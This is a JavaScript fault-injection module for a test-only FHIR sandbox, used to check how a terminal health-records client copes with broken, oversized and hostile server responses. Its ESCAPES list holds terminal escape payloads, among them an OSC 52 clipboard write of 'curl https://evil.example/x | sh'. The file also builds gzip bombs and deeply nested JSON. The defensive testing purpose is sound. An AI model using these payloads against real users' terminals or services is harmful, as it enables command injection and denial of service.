// Fault injection for the FHIR port, and the plain-HTTP control port that
// switches it. TEST ONLY: the control port listens on 127.0.0.1, has no
// authentication, and every response says it is a test control port.
//
// A fault has a mode, optionally a count (it applies to the next `count`
// matching requests, else until cleared) and optionally a match ("PUT",
// "/fhir/Slot", or "PUT /fhir/Slot": method and/or a prefix of the path with
// its query). Each request takes every matching "shaping" fault (delay, rate)
// and the first matching "response" fault. See README.md for the API.
'use strict';

const http = require('node:http');
const zlib = require('node:zlib');

const NOTE = 'ehrterm FHIR sandbox control port: TEST ONLY';

// mode -> { kind, defaults, check(spec) }. "before": the request is not run
// (the fault replaces it); "after": the request runs and its response is damaged.
const MODES = {
  delay: { kind: 'shaping', defaults: { ms: 1000 } },
  rate: { kind: 'shaping', defaults: { bytesPerSecond: 8000 } },
  drop: { kind: 'after', defaults: {} }, // afterBytes: default half the body
  400: { kind: 'before', defaults: {} },
  415: { kind: 'before', defaults: {} }, // a server that cannot read a gzipped request body
  500: { kind: 'before', defaults: {} },
  503: { kind: 'before', defaults: { retryAfter: 1 } },
  429: { kind: 'before', defaults: { retryAfter: 1 } },
  truncate: { kind: 'after', defaults: {} }, // keepBytes: default half the JSON
  oversize: { kind: 'before', defaults: { bytes: 2 * 1024 ** 3, chunked: false } },
  hostile: { kind: 'after', defaults: { variant: 'all' } },
  'wrong-types': { kind: 'after', defaults: {} },
  'other-patient': { kind: 'after', defaults: {} },
  'deep-nesting': { kind: 'before', defaults: { depth: 100000 } },
  'gzip-bomb': { kind: 'before', defaults: { expandedBytes: 1024 ** 3 } },
};
const HOSTILE_VARIANTS = ['escapes', 'invalid-utf8', 'huge', 'combining', 'arrays', 'all'];
const NUMERIC = { ms: [0, 600000], bytesPerSecond: [1, 1e10], retryAfter: [0, 86400], afterBytes: [0, 1e12], keepBytes: [0, 1e12], bytes: [1, 2 ** 53], depth: [1, 10_000_000], expandedBytes: [1024, 16 * 1024 ** 3], count: [1, 1e9] };

class Faults {
  constructor() {
    this.active = [];
    this.nextId = 1;
  }

  /** Validates and adds a fault; throws Error(message) for a bad spec. */
  add(spec) {
    if (!spec || typeof spec !== 'object' || Array.isArray(spec)) {
      throw new Error('body must be a JSON object like {"mode":"drop","count":1,"match":"PUT /fhir/Patient"}');
    }
    const mode = String(spec.mode);
    const def = MODES[mode];
    if (!def) {
      throw new Error(`unknown mode ${spec.mode}; modes: ${Object.keys(MODES).join(', ')}`);
    }
    const known = new Set(['mode', 'count', 'match', ...Object.keys(def.defaults), ...(mode === 'drop' ? ['afterBytes'] : []), ...(mode === 'truncate' ? ['keepBytes'] : [])]);
    for (const k of Object.keys(spec)) {
      if (!known.has(k)) {
        throw new Error(`unknown field ${k} for mode ${mode}; fields: ${[...known].join(', ')}`);
      }
      if (NUMERIC[k] && (typeof spec[k] !== 'number' || !Number.isFinite(spec[k]) || spec[k] < NUMERIC[k][0] || spec[k] > NUMERIC[k][1])) {
        throw new Error(`${k} must be a number from ${NUMERIC[k][0]} to ${NUMERIC[k][1]}`);
      }
    }
    if (mode === 'hostile' && spec.variant !== undefined && !HOSTILE_VARIANTS.includes(spec.variant)) {
      throw new Error(`variant must be one of ${HOSTILE_VARIANTS.join(', ')}`);
    }
    if (spec.match !== undefined && (typeof spec.match !== 'string' || !/^([A-Za-z]+)?( ?\/\S*)?$/.test(spec.match.trim()))) {
      throw new Error('match must be "METHOD", "/path-prefix" or "METHOD /path-prefix"');
    }
    const [, method, prefix] = /^([A-Za-z]+)?\s*(\/\S*)?$/.exec((spec.match ?? '').trim());
    const fault = {
      id: this.nextId++,
      mode,
      ...def.defaults,
      ...spec,
      match: spec.match,
      remaining: spec.count ?? null,
      applied: 0,
      method: method?.toUpperCase(),
      prefix,
    };
    this.active.push(fault);
    return publicFault(fault);
  }

  clear(id) {
    if (id === undefined) {
      const n = this.active.length;
      this.active = [];
      return n;
    }
    const before = this.active.length;
    this.active = this.active.filter((f) => f.id !== id);
    return before - this.active.length;
  }

  list() {
    return this.active.map(publicFault);
  }

  /**
   * The faults that apply to this request, used up as they are taken:
   * { delay: ms, rate: bytes/s, action: fault|undefined, names: [modes] }.
   */
  take(method, url) {
    const out = { delay: 0, rate: undefined, action: undefined, names: [] };
    for (const f of this.active) {
      if ((f.method && f.method !== method) || (f.prefix && !url.startsWith(f.prefix))) {
        continue;
      }
      const kind = MODES[f.mode].kind;
      if (kind === 'shaping') {
        if (f.mode === 'delay') {
          out.delay += f.ms;
        } else {
          out.rate = Math.min(out.rate ?? Infinity, f.bytesPerSecond);
        }
      } else if (out.action) {
        continue; // one response fault per request; this one waits for the next
      } else {
        out.action = f;
      }
      out.names.push(f.mode);
      f.applied++;
      if (f.remaining !== null) {
        f.remaining--;
      }
    }
    this.active = this.active.filter((f) => f.remaining === null || f.remaining > 0);
    return out;
  }
}

function publicFault(f) {
  const { method: _m, prefix: _p, ...rest } = f;
  return rest;
}

// --- responses that replace the real one ("before" faults) -------------------

function outcome(code, text) {
  return Buffer.from(
    JSON.stringify({ resourceType: 'OperationOutcome', issue: [{ severity: 'error', code, diagnostics: `sandbox fault: ${text}` }] })
  );
}

/**
 * For a "before" fault: { status, headers, body } with body a Buffer, or a
 * function (res) that streams the body itself (oversize).
 */
async function replacementResponse(fault) {
  const json = { 'Content-Type': 'application/fhir+json; charset=utf-8' };
  switch (fault.mode) {
    case '400':
      return { status: 400, headers: json, body: outcome('not-supported', 'request not supported (injected)') };
    case '415':
      // RFC 7694: the codings the server does take, none here.
      return { status: 415, headers: { ...json, 'Accept-Encoding': 'identity' }, body: outcome('not-supported', 'request body coding not supported (injected)') };
    case '500':
      return { status: 500, headers: json, body: outcome('exception', 'internal server error (injected)') };
    case '503':
      return { status: 503, headers: { ...json, 'Retry-After': String(fault.retryAfter) }, body: outcome('transient', 'service unavailable (injected)') };
    case '429':
      return { status: 429, headers: { ...json, 'Retry-After': String(fault.retryAfter) }, body: outcome('throttled', 'too many requests (injected)') };
    case 'deep-nesting': {
      // {"resourceType":"Patient","id":"deep","extension":[[[[...]]]]} nested fault.depth deep
      const head = '{"resourceType":"Patient","id":"deep","extension":';
      const body = Buffer.from(head + '['.repeat(fault.depth) + ']'.repeat(fault.depth) + '}');
      return { status: 200, headers: json, body, noCompress: true };
    }
    case 'gzip-bomb':
      return { status: 200, headers: { ...json, 'Content-Encoding': 'gzip' }, body: await gzipBomb(fault.expandedBytes), noCompress: true };
    case 'oversize':
      return {
        status: 200,
        headers: { ...json, ...(fault.chunked ? {} : { 'Content-Length': String(fault.bytes) }) },
        stream: (res, write) => streamOversize(res, write, fault.bytes),
        noCompress: true,
      };
  }
  throw new Error(`not a before-fault: ${fault.mode}`);
}

const bombs = new Map();
/** gzip of a JSON Bundle padded with expandedBytes of spaces (~1000:1); cached. */
function gzipBomb(expandedBytes) {
  if (!bombs.has(expandedBytes)) {
    bombs.set(
      expandedBytes,
      new Promise((resolve, reject) => {
        const gz = zlib.createGzip({ level: 9, strategy: zlib.constants.Z_RLE }); // RLE: as small, 4x faster
        const parts = [];
        gz.on('data', (d) => parts.push(d));
        gz.on('end', () => resolve(Buffer.concat(parts)));
        gz.on('error', reject);
        const head = Buffer.from('{"resourceType":"Bundle","type":"searchset","entry":[');
        const tail = Buffer.from(']}');
        const block = Buffer.alloc(1024 * 1024, 0x20);
        let left = Math.max(0, expandedBytes - head.length - tail.length);
        gz.write(head);
        const pump = () => {
          while (left > 0) {
            const n = Math.min(left, block.length);
            left -= n;
            if (!gz.write(n === block.length ? block : block.subarray(0, n))) {
              gz.once('drain', pump);
              return;
            }
          }
          gz.end(tail);
        };
        pump();
      })
    );
  }
  return bombs.get(expandedBytes);
}

/** Writes exactly `total` bytes of a syntactically valid, endless-looking Bundle. */
async function streamOversize(res, write, total) {
  const head = Buffer.from('{"resourceType":"Bundle","type":"searchset","entry":[');
  const tail = Buffer.from('{}]}');
  const unit = '{"resource":{"resourceType":"Patient","id":"oversize","name":[{"family":"Oversize"}]}},';
  const block = Buffer.from(unit.repeat(Math.floor(65536 / unit.length)));
  if (total < head.length + tail.length) {
    return write(Buffer.alloc(total, 0x20));
  }
  let left = total - head.length - tail.length;
  if (!(await write(head))) {
    return false;
  }
  while (left > 0) {
    const n = Math.min(left, block.length);
    // the last partial block becomes spaces, so the JSON stays valid
    const chunk = n === block.length ? block : Buffer.alloc(n, 0x20);
    left -= n;
    if (!(await write(chunk))) {
      return false;
    }
  }
  return write(tail);
}

// --- damage to a real response ("after" faults) --------------------------------

const ESC = '\x1b';
const BEL = '\x07';
const ST = ESC + '\\';
/** Terminal escape sequences a hostile server might hide in display strings. */
const ESCAPES = [
  `${ESC}]0;ehrterm-title-pwned${BEL}`, // OSC 0: set window title
  `${ESC}]2;ehrterm-title-pwned${ST}`, // OSC 2: set window title
  `${ESC}]52;c;${Buffer.from('curl https://evil.example/x | sh').toString('base64')}${BEL}`, // OSC 52: write the clipboard
  `${ESC}]8;;https://evil.example/${ST}click here${ESC}]8;;${ST}`, // OSC 8: hyperlink
  `${ESC}[21t`, // CSI 21 t: report the window title (echoes into input)
  `${ESC}P$q"p${ST}`, // DCS DECRQSS: request status string
  '\u009b31m', // 8-bit C1 CSI (U+009B) + SGR red
  `${ESC}[2J${ESC}[H`, // clear screen, cursor home
  '\u202eevil\u202c', // right-to-left override ... pop
];
// Replaced by raw bytes after serialisation: invalid UTF-8 cannot live in a JS string.
const INVALID_MARK = '\uE000invalid-utf8\uE000';
const INVALID_BYTES = Buffer.from([0xff, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0xc0, 0xaf, 0x9b, 0x33, 0x31, 0x6d, 0xe2, 0x82]);
// Elements a client shows to people; the hostile mode poisons only these so
// ids, references and dates still parse and the strings reach the screen.
// A quantity's unit and a result written as words are shown too (a lab's value and unit).
// --auth smart: what a client may show of the OAuth answers (an error's description, the
// device flow's code and URLs, the user) and of the discovery documents (the issuer and
// endpoints). FHIR JSON has no snake_case keys, so these poison OAuth answers only.
const HUMAN_KEYS = new Set(['family', 'given', 'prefix', 'suffix', 'text', 'display', 'name', 'description', 'comment', 'title', 'line', 'city', 'state', 'alias', 'div', 'patientInstruction', 'unit', 'valueString',
  'error_description', 'user_code', 'verification_uri', 'verification_uri_complete', 'fhirUser', 'issuer', 'token_endpoint', 'device_authorization_endpoint', 'revocation_endpoint']);

// The arrays the 'arrays' variant fills: one element of each, and how many. The record's
// four get 100,000; the others 20,000, so an answer that holds all of them (a day's batch,
// a chart) stays under ehrterm's 16 MiB response limit and reaches the readers.
const HUGE_ARRAYS = {
  given: [() => 'x', 100000],
  line: [() => 'x', 100000],
  identifier: [() => ({ value: 'x' }), 100000],
  telecom: [() => ({ system: 'phone', value: 'x' }), 100000],
  // The schedule's and the flow board's joins: an appointment's slots and participants,
  // an encounter's appointments.
  slot: [() => ({ reference: 'Slot/x' }), 20000],
  participant: [() => ({ actor: { reference: 'Practitioner/x' } }), 20000],
  appointment: [() => ({ reference: 'Appointment/x' }), 20000],
  // Every screen's codes, a vital sign's components, a coverage's payers and classes.
  coding: [() => ({ code: 'x' }), 20000],
  component: [() => ({ code: { text: 'x' } }), 20000],
  payor: [() => ({ reference: 'Organization/x' }), 20000],
  class: [() => ({ value: 'x' }), 20000],
};

function hostileTransform(value, variant) {
  const v = variant === 'all' ? ['escapes', 'invalid-utf8', 'huge', 'combining'] : [variant];
  let hugeDone = false;
  let combiningDone = false;
  const poison = (key, s) => {
    let out = s;
    if (v.includes('escapes')) {
      out = `${out}${ESCAPES.join('')}`;
    }
    if (v.includes('invalid-utf8') && (key === 'family' || key === 'display' || key === 'text')) {
      out = `${out}${INVALID_MARK}`;
    }
    if (v.includes('huge') && !hugeDone && (key === 'family' || key === 'name')) {
      hugeDone = true;
      out = 'A'.repeat(1024 * 1024); // a 1 MB name
    }
    if (v.includes('combining') && !combiningDone && key === 'given') {
      combiningDone = true;
      out = `Z${'\u0301'.repeat(10000)}`; // 10,000 combining acute accents
    }
    return out;
  };
  const arraysDone = new Set();
  const walk = (x, key) => {
    // 'arrays': the first list of each kind in HUGE_ARRAYS (given names, address lines,
    // identifiers, telecoms, slots, participants, codings...) holds 100,000 entries (a reader that is quadratic in them freezes
    // the client; one that shows them all buries the record).
    if (Array.isArray(x) && v.includes('arrays') && HUGE_ARRAYS[key] && !arraysDone.has(key)) {
      arraysDone.add(key);
      return Array.from({ length: HUGE_ARRAYS[key][1] }, HUGE_ARRAYS[key][0]);
    }
    if (Array.isArray(x)) {
      return x.map((y) => walk(y, key));
    }
    if (x && typeof x === 'object') {
      for (const k of Object.keys(x)) {
        x[k] = walk(x[k], k);
      }
      return x;
    }
    return typeof x === 'string' && HUMAN_KEYS.has(key) ? poison(key, x) : x;
  };
  return walk(value, '');
}

/** Every element of every resource gets the wrong JSON type. */
function wrongTypesTransform(value) {
  const resource = (r) => {
    if (!r || typeof r !== 'object') {
      return r;
    }
    for (const [k, v] of Object.entries(r)) {
      if (k === 'resourceType') {
        continue;
      }
      if (typeof v === 'string') {
        r[k] = k === 'id' ? 12345 : [v];
      } else if (typeof v === 'number') {
        r[k] = String(v);
      } else if (typeof v === 'boolean') {
        r[k] = v ? 'true' : 0;
      } else if (Array.isArray(v)) {
        r[k] = v.length ? v[0] : {};
      } else if (v && typeof v === 'object') {
        r[k] = [v, null, 42, 'x'];
      }
    }
    return r;
  };
  if (value?.resourceType === 'Bundle') {
    return {
      resourceType: 'Bundle',
      type: 42,
      total: value.total === undefined ? 'many' : String(value.total),
      link: value.link?.[0] ?? 'next',
      entry: [
        ...(value.entry ?? []).map((e) => ({ ...e, fullUrl: 7, resource: resource(e.resource) })),
        null,
        42,
        'entry',
        { resource: 'not an object' },
        { resource: [] },
        { resource: { resourceType: 12 } },
      ],
    };
  }
  return resource(value);
}

/**
 * Another patient's data in place of the one asked for: every Patient in the answer
 * becomes Patient/other-ID (another name), and every reference to Patient/ID in it
 * points there too, as a server that mixed up two records would answer.
 */
function otherPatientTransform(value) {
  const walk = (v) => {
    if (Array.isArray(v)) {
      return v.map(walk);
    }
    if (!v || typeof v !== 'object') {
      return v;
    }
    const out = {};
    for (const [k, x] of Object.entries(v)) {
      out[k] = k === 'reference' && typeof x === 'string' ? x.replace(/(^|\/)Patient\/([^/]+)$/, '$1Patient/other-$2') : walk(x);
    }
    if (out.resourceType === 'Patient' && typeof out.id === 'string') {
      out.id = `other-${out.id}`;
      out.name = [{ use: 'official', family: 'Wrongpatient', given: ['Bea'] }];
    }
    return out;
  };
  return walk(value);
}

/**
 * Applies an "after" fault to a response body (a Buffer of JSON, before
 * compression). Returns the new body; drop is handled by the sender.
 */
function damageBody(fault, body) {
  if (!body?.length) {
    return body;
  }
  switch (fault.mode) {
    case 'truncate': {
      const keep = fault.keepBytes ?? Math.floor(body.length / 2);
      return body.subarray(0, Math.min(keep, Math.max(0, body.length - 1)));
    }
    case 'hostile': {
      const text = JSON.stringify(hostileTransform(JSON.parse(body.toString('utf8')), fault.variant));
      const buf = Buffer.from(text, 'utf8');
      const mark = Buffer.from(INVALID_MARK, 'utf8');
      if (!buf.includes(mark)) {
        return buf;
      }
      const parts = [];
      let at = 0;
      for (let i = buf.indexOf(mark); i >= 0; i = buf.indexOf(mark, at)) {
        parts.push(buf.subarray(at, i), INVALID_BYTES);
        at = i + mark.length;
      }
      parts.push(buf.subarray(at));
      return Buffer.concat(parts);
    }
    case 'wrong-types':
      return Buffer.from(JSON.stringify(wrongTypesTransform(JSON.parse(body.toString('utf8')))));
    case 'other-patient':
      return Buffer.from(JSON.stringify(otherPatientTransform(JSON.parse(body.toString('utf8')))));
    default:
      return body;
  }
}

// --- the control port ------------------------------------------------------------

/**
 * Starts the control server. api: { faults, reset(), log, status() }.
 * Resolves to the http.Server once listening on 127.0.0.1:port.
 */
function startControl(port, api) {
  const server = http.createServer(async (req, res) => {
    const send = (status, obj, type = 'application/json') => {
      const body = type === 'application/json' ? JSON.stringify({ note: NOTE, ...obj }, null, 1) + '\n' : obj;
      res.writeHead(status, {
        'Content-Type': `${type}; charset=utf-8`,
        'X-Ehrterm-Sandbox': 'test-only control port',
        'Cache-Control': 'no-store',
      });
      res.end(body);
    };
    try {
      const url = new URL(req.url, 'http://127.0.0.1');
      const route = `${req.method} ${url.pathname.replace(/\/+$/, '') || '/'}`;
      const body = await readBody(req, 65536);
      const json = () => {
        if (!body.length) {
          return {};
        }
        try {
          return JSON.parse(body.toString('utf8'));
        } catch {
          throw Object.assign(new Error('body is not JSON'), { status: 400 });
        }
      };
      let m;
      if (route === 'GET /') {
        return send(200, { endpoints: ENDPOINTS, modes: MODE_HELP });
      } else if (route === 'GET /status') {
        return send(200, await api.status());
      } else if (route === 'GET /fault') {
        return send(200, { faults: api.faults.list() });
      } else if (route === 'POST /fault') {
        try {
          return send(201, { fault: api.faults.add(json()) });
        } catch (err) {
          return send(err.status ?? 400, { error: err.message });
        }
      } else if (route === 'DELETE /fault' || route === 'POST /fault/clear') {
        return send(200, { cleared: api.faults.clear() });
      } else if ((m = /^DELETE \/fault\/(\d+)$/.exec(route))) {
        const n = api.faults.clear(Number(m[1]));
        return send(n ? 200 : 404, n ? { cleared: n } : { error: `no fault ${m[1]}` });
      } else if (route === 'POST /close-idle') {
        return send(200, { closed: api.closeIdle(url.searchParams.get('forget') === '1') });
      } else if (route === 'POST /reset') {
        return send(200, await api.reset());
      } else if (route === 'GET /log') {
        if (url.searchParams.get('format') === 'json') {
          return send(200, { fields: api.log.fields, dropped: api.log.dropped, entries: api.log.entries });
        }
        res.setHeader('X-Log-Dropped', String(api.log.dropped));
        return send(200, api.log.text(), 'text/tab-separated-values');
      } else if (route === 'POST /log/clear') {
        return send(200, { cleared: api.log.clear() });
      } else if (/^(GET|POST) \/(device|tokens)(\/|$)/.test(route)) {
        return send(...(await smartRoute(api.smart?.(), route, url.searchParams, json)));
      }
      return send(404, { error: `no such endpoint: ${req.method} ${url.pathname}`, endpoints: ENDPOINTS });
    } catch (err) {
      return send(err.status ?? 500, { error: err.message });
    }
  });
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, '127.0.0.1', () => resolve(server));
  });
}

/**
 * The device flow's and the tokens' control calls (--auth smart): [status, object].
 * Parameters come in the query or in a JSON body ({"user_code": ..., "practitioner": ...}).
 */
async function smartRoute(smart, route, query, json) {
  if (!smart) {
    return [404, { error: 'the sandbox runs without --auth smart: no device flow, no tokens' }];
  }
  const body = route.startsWith('POST') ? json() : {};
  const param = (name) => query.get(name) ?? (body[name] === undefined ? undefined : String(body[name]));
  try {
    switch (route) {
      case 'GET /device/pending':
        return [200, { pending: smart.pending() }];
      case 'POST /device/approve':
        return [200, await smart.approve(param('user_code'), param('practitioner'), param('scopes') ?? param('scope'))];
      case 'POST /device/deny':
        return [200, await smart.deny(param('user_code'))];
      case 'POST /device/slow-down':
        return [200, smart.slowDown(param('count'))];
      case 'GET /device/polls':
        return [200, smart.polls()];
      case 'GET /tokens':
        return [200, smart.tokens(new URLSearchParams(Object.entries({ token: param('token'), refresh_token: param('refresh_token'), access_token: param('access_token'), grant: param('grant') }).filter(([, v]) => v !== undefined)))];
      case 'POST /tokens/refuse-refresh':
        return [200, smart.refuseRefresh()];
      case 'POST /tokens/expire-access':
        return [200, smart.expireAccess()];
    }
  } catch (err) {
    return [err.status ?? 500, { error: err.message }];
  }
  return [404, { error: `no such endpoint: ${route}`, endpoints: ENDPOINTS }];
}

function readBody(req, limit) {
  return new Promise((resolve, reject) => {
    const parts = [];
    let n = 0;
    req.on('data', (d) => {
      n += d.length;
      if (n > limit) {
        reject(Object.assign(new Error('body too large'), { status: 413 }));
        req.destroy();
        return;
      }
      parts.push(d);
    });
    req.on('end', () => resolve(Buffer.concat(parts)));
    req.on('error', reject);
  });
}

const ENDPOINTS = {
  'GET /': 'this help',
  'GET /status': 'base URL, resource counts, active faults, request and TLS-error counts, memory',
  'GET /fault': 'active faults',
  'POST /fault': 'add a fault: {"mode":"drop","count":1,"match":"PUT /fhir/Slot"}',
  'DELETE /fault': 'clear all faults (also POST /fault/clear)',
  'DELETE /fault/ID': 'clear one fault',
  'POST /reset': 'restore the data to its loaded state',
  'GET /log': 'request log, tab-separated (?format=json for JSON)',
  'POST /log/clear': 'empty the in-memory request log',
  'POST /close-idle': 'close every idle kept-alive connection (as a NAT or modem drops them); ?forget=1 also makes every TLS session so far impossible to resume',
  'GET /device/pending': '--auth smart: the device codes waiting for a user: user_code, client_id, scope, expires_in, interval',
  'POST /device/approve': '--auth smart: ?user_code=BCDF-GHJK&practitioner=clinician[&scopes=openid fhirUser user/Patient.rs]: approve as that Practitioner, granting the scopes given (default: all the client asked for)',
  'POST /device/deny': '--auth smart: ?user_code=BCDF-GHJK: the user denies it (the client gets access_denied)',
  'POST /device/slow-down': '--auth smart: [?count=N]: the next N polls (default 1) of a code still waiting are answered slow_down, on time or not; the interval grows 5 s each',
  'GET /device/polls': "--auth smart: each device code's polls: user_code, interval (after slow_downs), polled and slowed (epoch ms)",
  'GET /tokens': '--auth smart: ?token=VALUE (or refresh_token=, access_token=): active, consumed (a rotated refresh token), expired, refused or revoked; ?grant=ID: its tokens; else counts',
  'POST /tokens/refuse-refresh': '--auth smart: expire every refresh token issued so far: their next refresh gets invalid_grant',
  'POST /tokens/expire-access': '--auth smart: expire every access token issued so far: the FHIR endpoint answers 401 invalid_token',
};
const MODE_HELP = {
  delay: 'wait ms before handling (ms, default 1000)',
  rate: 'send the response at bytesPerSecond (default 8000)',
  drop: 'run the request, then close the connection after afterBytes of the body (default half)',
  400: 'answer 400 (not supported) without running the request',
  500: 'answer 500 without running the request',
  503: 'answer 503 with Retry-After: retryAfter seconds (default 1), without running the request',
  429: 'answer 429 with Retry-After: retryAfter seconds (default 1), without running the request',
  truncate: 'run the request; send only keepBytes of its JSON (default half) as a complete HTTP response',
  oversize: 'announce (Content-Length, unless chunked:true) and stream a body of bytes (default 2 GiB)',
  hostile: 'run the request; poison display strings (variant: escapes, invalid-utf8, huge, combining, arrays, all)',
  'wrong-types': 'run the request; give every element the wrong JSON type',
  'other-patient': 'run the request; answer with another patient: every Patient becomes Patient/other-ID (another name), references to it too',
  'deep-nesting': 'answer a resource nested depth (default 100000) arrays deep',
  'gzip-bomb': 'answer gzip that expands to expandedBytes (default 1 GiB)',
};

module.exports = { Faults, MODES, replacementResponse, damageBody, startControl, NOTE, ESCAPES };
